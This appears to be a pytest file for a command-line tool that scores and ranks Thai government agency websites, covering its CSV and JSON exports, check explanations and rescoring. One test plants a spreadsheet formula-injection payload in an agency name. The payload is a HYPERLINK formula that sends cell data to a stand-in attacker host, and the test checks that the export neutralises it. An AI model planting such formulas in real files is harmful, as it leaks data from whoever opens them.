"""The analyst's commands on the scored testbed store (a copy): score, rank, explain, history, checks, rescore."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from sqlalchemy import update
from typer.testing import CliRunner

from egov_crawl.cli import app
from egov_crawl.errors import UserError
from egov_crawl.report.export import RANK_COLUMNS, SCORE_COLUMNS
from egov_crawl.scoring.registry import all_checks
from egov_crawl.store.db import open_store, session_factory
from egov_crawl.store.models import Agency
from tests.fixtures.sitefacts import AS_OF

DATE = AS_OF.isoformat()


def invoke(*args: str) -> str:
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, (result.output, result.exception)
    return result.stdout


def test_score_card_shows_evidence_urls_for_its_failures(scored_copy: str) -> None:
    out = invoke("score", "oae", "--db", scored_copy, "--run", "1", "--as-of", DATE, "-f", "csv")
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == [c.name for c in SCORE_COLUMNS]
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    failures = [r for r in records if r["kind"] == "failure"]
    assert len(failures) >= 5
    assert all(r["evidence_url"].startswith("https://www.oae.test/") for r in failures), failures
    assert {r["id"] for r in records if r["kind"] == "pillar"} == {"service", "infrastructure", "openness"}
    assert float(failures[0]["points_lost"]) >= float(failures[-1]["points_lost"])  # the costliest first


def test_rank_csv_header_is_the_declared_columns_with_an_excel_bom(scored_copy: str, tmp_path: Path) -> None:
    out = tmp_path / "rank.csv"
    invoke("rank", "--db", scored_copy, "--run", "1", "-f", "csv", "--excel", "-o", str(out))
    raw = out.read_text(encoding="utf-8")
    assert raw.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(raw.removeprefix("\ufeff"))))
    assert rows[0] == [c.name for c in RANK_COLUMNS]
    assert any(row[2] == "กรมสรรพากร" for row in rows[1:])  # Thai survives as UTF-8


def test_a_formula_in_an_agency_name_is_neutralised_in_csv(scored_copy: str) -> None:
    evil = '=HYPERLINK("http://evil.test/?x="&A1,"คลิก")'
    with session_factory(open_store(scored_copy))() as session:
        session.execute(update(Agency).where(Agency.id == "revenue").values(name_th=evil))
        session.commit()
    out = invoke("rank", "--db", scored_copy, "--run", "1", "-f", "csv")
    cells = [row[2] for row in csv.reader(io.StringIO(out))]
    assert "'" + evil in cells and evil not in cells


def test_rank_by_pillar_cohort_and_parent(scored_copy: str) -> None:
    base = ["--db", scored_copy, "--run", "1", "-f", "json"]
    by_openness = json.loads(invoke("rank", "--pillar", "openness", *base))
    values = [r["openness"] for r in by_openness if r["openness"] is not None]
    assert values == sorted(values, reverse=True)
    enterprises = json.loads(invoke("rank", "--cohort", "state-enterprise", *base))
    assert [r["id"] for r in enterprises] == ["tat"] and enterprises[0]["rank"] in (1, None)
    grouped = json.loads(invoke("rank", "--group-by", "parent", *base))
    assert sorted(r["id"] for r in grouped) == sorted(r["id"] for r in by_openness)
    parents = [r["parent"] for r in grouped]
    assert parents == sorted(parents, key=lambda p: (p is None, p or ""))  # ranked within each parent


def test_explain_prints_the_outcome_evidence_and_docstring(scored_copy: str) -> None:
    out = invoke("explain", "dbd", "opn-12", "--db", scored_copy, "--run", "1")
    spec = all_checks()["OPN-12"]
    assert "outcome: FAIL" in out and "https://www.dbd.test/" in out
    assert spec.doc_parts()["What"][:40] in out.replace("\n", " ")
    assert "Outcomes:" in out
    data = json.loads(invoke("explain", "revenue", "OPN-12", "--db", scored_copy, "--run", "1", "-f", "json"))
    assert data["outcome"] == "PASS" and data["evidence"][0]["url"].startswith("https://www.revenue.test/")


def test_history_checks_and_user_errors(scored_copy: str) -> None:
    history = json.loads(invoke("history", "revenue", "--db", scored_copy, "-f", "json"))
    assert [h["run"] for h in history] == [1]
    listed = json.loads(invoke("checks", "list", "-f", "json"))
    assert [c["id"] for c in listed] == list(all_checks())
    assert "HSTS" in invoke("checks", "show", "INF-05")
    for args in (["explain", "revenue", "INF-99"], ["rank", "--pillar", "beauty"], ["score", "nope", "--run", "1"]):
        result = CliRunner().invoke(app, [*args, "--db", scored_copy])
        assert isinstance(result.exception, UserError), (args, result.output)
        assert len(result.exception.lines) == 1


def test_rescore_command_with_the_ita_oit_replica(scored_copy: str) -> None:
    out = json.loads(invoke("rescore", "--methodology", "ita-oit", "--db", scored_copy, "--as-of", DATE, "-f", "json"))
    by_agency = {row["agency"]: row for row in out}
    assert by_agency["revenue"]["methodology"].startswith("ita-oit")
    rank = json.loads(invoke("rank", "--methodology", "ita-oit", "--db", scored_copy, "-f", "json"))
    overall = {row["id"]: row["overall"] for row in rank}
    assert overall["revenue"] > overall["oae"]  # the model agency has more OIT items than the poor one
    assert rank[0]["overall"] == max(v for v in overall.values() if v is not None)
